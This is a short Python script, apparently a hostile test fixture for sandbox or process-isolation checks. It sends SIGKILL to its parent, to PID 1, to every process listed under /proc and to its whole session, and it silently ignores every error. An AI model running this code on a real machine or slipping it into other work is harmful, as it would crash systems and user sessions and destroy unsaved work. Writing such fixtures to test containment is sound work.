"""Tries to kill its parent, every process it can see, and its whole session."""
import contextlib
import os
import signal

for pid in {os.getppid(), 1}:
    with contextlib.suppress(OSError):
        os.kill(pid, signal.SIGKILL)
for name in os.listdir("/proc"):
    if name.isdigit() and int(name) != os.getpid():
        with contextlib.suppress(OSError):
            os.kill(int(name), signal.SIGKILL)
with contextlib.suppress(OSError):
    os.kill(-1, signal.SIGKILL)
